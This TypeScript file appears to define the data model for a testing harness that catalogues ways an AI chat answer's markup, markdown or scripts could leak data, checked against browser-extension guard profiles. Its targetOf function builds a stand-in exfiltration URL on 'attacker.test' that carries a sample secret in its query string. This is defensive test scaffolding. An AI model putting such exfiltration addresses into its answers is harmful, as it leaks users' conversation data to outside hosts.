/** One way out of a chat's answer, as data. Numbers and letters of sections follow the list of known ways. */
export interface Vector {
  readonly row: number;
  /** A letter where a row is built more than once. */
  readonly variant?: string;
  readonly section: Section;
  readonly title: string;
  /** Markup that an answer may hold. */
  readonly html?: (to: Target) => string;
  /** What a model writes before a renderer makes markup of it. */
  readonly markdown?: (to: Target) => string;
  /** Runs in the page, or in a frame that may run scripts. Uses nothing around it but its arguments. */
  readonly script?: (to: Target, place: HTMLElement) => void;
  /** Ways of insertion; without it the usual ones for markup, markdown or script. */
  readonly ways?: readonly Way[];
  /** What the person does afterwards, to the element with the id `press`. */
  readonly needs?: 'click' | 'middle-click' | 'hover' | 'scroll';
  /** Takes the page away or changes it for others, so it gets one of its own. */
  readonly isAlone?: boolean;
  /** Address of the chat in which it is tried; the usual one without it. */
  readonly page?: string;
  /** Browsers in which it can be tried; both without it. */
  readonly browsers?: readonly BrowserName[];
  /** A picture of the chat itself: it has to load in every profile. */
  readonly isControl?: boolean;
  /** The chat's own server is asked to fetch it: asking there is the leak. */
  readonly leaksAtOwn?: boolean;
  /** The chat's app asks like this, so in Guard its own document may; frames of answers may not. */
  readonly isAppTraffic?: boolean;
  /** A document goes there, so the browser connects while rules still decide. */
  readonly isNavigation?: boolean;
  /** A side channel that no rule of an extension sees. */
  readonly open?: Opening;
}

/** What may leave although the guard is on, and why. */
export interface Opening {
  readonly upTo: Level;
  readonly why: string;
  readonly browsers?: readonly BrowserName[];
}

export const sections = ['own', 'A', 'B', 'C', 'D', 'E', 'F', 'G', 'I'] as const;
export type Section = (typeof sections)[number];
export const browserNames = ['chromium', 'firefox'] as const;
export type BrowserName = (typeof browserNames)[number];
export const profileNames = ['none', 'watch', 'guard', 'strict'] as const;
export type ProfileName = (typeof profileNames)[number];

/** The furthest thing that left: nothing, a name look-up, a connection that tells the name, a datagram, a request. */
export const levels = ['nothing', 'name', 'connection', 'datagram', 'request'] as const;
export type Level = (typeof levels)[number];

const markupWays = [
  'inner',
  'parser',
  'adopt',
  'shadow',
  'srcdoc',
  'sandbox',
  'data',
  'blob',
  'artifact',
] as const;
const scriptWays = ['script', 'script-sandbox', 'script-artifact'] as const;
export const markdownWays = [
  'markdown-it',
  'marked',
  'react',
  'streamed',
  'streamdown',
  'deep-chat',
] as const;
export type Way =
  (typeof markupWays)[number] | (typeof scriptWays)[number] | (typeof markdownWays)[number] | 'rich';

/** Where a vector sends: a host of its own, so that the log tells which one leaked. */
export interface Target {
  /** `v<row>-<way>-<run>`: stands in the host and may stand anywhere in an address. */
  readonly mark: string;
  readonly host: string;
  readonly url: string;
}

/** What the answer would carry away; the conversation on the page holds it, too. */
export const SECRET = 'Jane Doe account 4829130577';

/** The domain under which all strangers live. */
export const ATTACKER = 'attacker.test';

/** The chat in which vectors are tried: one that is known by its host, so that its standing rules apply. */
export const CHAT_PAGE = 'https://claude.ai/chat/1?lab=1';
/** A host of its record, from which frames of artifacts come. */
export const ARTIFACT_ORIGIN = 'https://lab.claudeusercontent.com';

/** `56`, `178b`. */
export function keyOf({ row, variant = '' }: Vector): string {
  return `${row}${variant}`;
}

export function markOf(vector: Vector, way: Way, run: number): string {
  return `v${keyOf(vector)}-${way.replaceAll('-', '')}-r${run}`;
}

const MARK = /v(\d+[a-z]?)-([a-z]+)-r\d+/;

/** Finds the mark of a vector in a host name or an address. */
export function markIn(text: string): string | null {
  return MARK.exec(text.toLowerCase())?.[0] ?? null;
}

/** Takes a mark apart: the key of the vector and the letters of the way. */
export function readMark(mark: string): { readonly key: string; readonly way: string } {
  const [, key = '', way = ''] = MARK.exec(mark) ?? [];
  return { key, way };
}

export function targetOf(mark: string): Target {
  const host = `${mark}.${ATTACKER}`;
  return { mark, host, url: `https://${host}/p?d=${encodeURIComponent(SECRET)}` };
}

/** The ways in which a vector is tried. */
export function waysOf(vector: Vector): readonly Way[] {
  if (vector.ways) return vector.ways;
  if (vector.html) return markupWays;
  return vector.script ? scriptWays : markdownWays;
}
